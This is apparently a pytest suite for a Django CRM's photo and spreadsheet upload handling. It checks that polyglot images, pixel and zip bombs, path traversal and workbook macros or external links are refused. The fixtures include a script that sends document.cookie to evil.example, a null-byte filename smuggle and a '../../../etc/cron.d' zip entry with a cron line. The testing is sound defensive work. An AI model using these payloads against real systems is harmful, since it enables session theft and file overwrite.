"""Files made to be two things at once, to be huge once opened, or to carry something along."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from campaigns.models import Milestone
from campaigns.rules_photos import dots
from crm.roles import Role
from leads.models import ImportBatch
from leads.registers.limits import DEFAULT_LIMITS
from leads.registers.sniffing import open_register
from tests.campaigns.test_milestone_screens import NOW, written
from tests.crm.screens import signed_in
from tests.factories import make_user
from tests.leads.registers.builders import sheet_xml, xlsx
from tests.leads.registers.test_files import TABLE, code, load
from tests.leads.stage import Stage, set_stage
from tests.pictures import jpeg, png

pytestmark = pytest.mark.django_db
PAGE = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"


@pytest.fixture
def stage() -> Stage:
    return set_stage()


@pytest.fixture
def marketing(stage: Stage, settings: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Client:
    monkeypatch.setattr("crm.clock.now", lambda: NOW)
    settings.MEDIA_ROOT = tmp_path
    return signed_in(make_user(Role.MARKETING, stage.project, "马"))


def sent(
    marketing: Client, content: bytes, name: str = "a.png", said: str = "image/png"
) -> tuple[int, Milestone]:
    row = Milestone.objects.first() or written(marketing)
    store = reverse("campaigns:milestone_photo_store", args=[row.pk])
    status = marketing.post(store, {"photo": SimpleUploadedFile(name, content, said)}).status_code
    row.refresh_from_db()
    return status, row


@pytest.mark.parametrize(
    "content",
    [
        PAGE + png(9, 9),
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"GIF89a" + PAGE,
        b"\x89PNG\r\n\x1a\n" + PAGE,
        b"\xff\xd8\xff" + PAGE,
        png(0, 9),
        png(9, 9)[:20],
        jpeg(9, 9)[:12],
        png(30_000, 30_000),
        png(2**31 - 1, 2**31 - 1),
        jpeg(65_000, 65_000),
        jpeg(60_000, 900, frame=0xC2),
        jpeg(60_000, 60_000, before=b"\xff" * 9),
    ],
)
def test_what_is_no_picture_or_a_bomb_of_dots_is_refused(
    marketing: Client, tmp_path: Path, content: bytes
) -> None:
    status, row = sent(marketing, content)
    assert (status, row.photo) == (422, "")
    assert not list(tmp_path.rglob("*.*"))


@pytest.mark.parametrize("content", [png(640, 480, PAGE), jpeg(4000, 3000) + PAGE])
def test_a_picture_with_a_page_behind_it_is_served_as_a_picture_alone(
    marketing: Client, content: bytes
) -> None:
    name = "x" * 200 + ".html\0.png"
    status, row = sent(marketing, content, name, "text/html")
    assert status == 302
    assert "html" not in row.photo
    assert len(row.photo) < 40
    answer = marketing.get(reverse("campaigns:milestone_photo", args=[row.pk]))
    assert answer["Content-Type"].startswith("image/")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Disposition"].startswith("attachment")


def test_a_preview_inside_is_not_the_picture() -> None:
    assert dots(jpeg(4000, 3000)) == 12_000_000
    assert dots(jpeg(4000, 3000, frame=0xC2)) == 12_000_000
    assert dots(png(640, 480)) == 307_200


def zipped(members: dict[str, bytes], before: bytes = b"") -> bytes:
    file = io.BytesIO()
    file.write(before)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return file.getvalue()


def with_members(book: bytes, **members: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(book)) as found:
        kept = {name: found.read(name) for name in found.namelist()}
    return zipped(kept | {name: text.encode() for name, text in members.items()})


BOOK = xlsx({"S": sheet_xml(TABLE)})


@pytest.mark.parametrize(
    "content",
    [
        zipped({"index.html": PAGE}),
        zipped({"x.svg": b"<svg/>"}),
        PAGE + BOOK,
        zipped({f"a{n}": b"" for n in range(DEFAULT_LIMITS.max_members + 1)}),
        zipped({"xl/" + "x" * 60_000: b""}),
        zipped({"../../../etc/cron.d/x": b"* * * * * root true"}),
        png(9, 9, BOOK),
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    ],
)
def test_what_is_no_register_is_refused_in_words(stage: Stage, content: bytes) -> None:
    wu = signed_in(stage.wu)
    answer = wu.post(reverse("leads:import_new"), {"file": SimpleUploadedFile("x" * 240 + ".xlsx", content)})
    assert answer.status_code == 422
    assert answer.context["form"].errors["file"]
    assert not ImportBatch.objects.exists()
    assert code(content)


def test_links_and_macros_in_a_workbook_are_neither_followed_nor_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """What they would say is not read: the table comes out as it does without them, and nobody is asked."""

    def asked(*_where: object, **_how: object) -> None:
        raise AssertionError("a register asked the network")

    monkeypatch.setattr("socket.socket.connect", asked)
    monkeypatch.setattr("socket.getaddrinfo", asked)
    link = '<Relationships><Relationship Id="rId1" TargetMode="External" Target="https://evil.example/x.xlsx"/></Relationships>'
    loaded = with_members(
        BOOK,
        **{
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": link,
            "xl/vbaProject.bin": "Auto_Open",
            "xl/connections.xml": "<connections/>",
        },
    )
    assert load(loaded)[0] == load(BOOK)[0]
    assert [sheet.name for sheet in open_register(loaded).sheets] == ["S"]
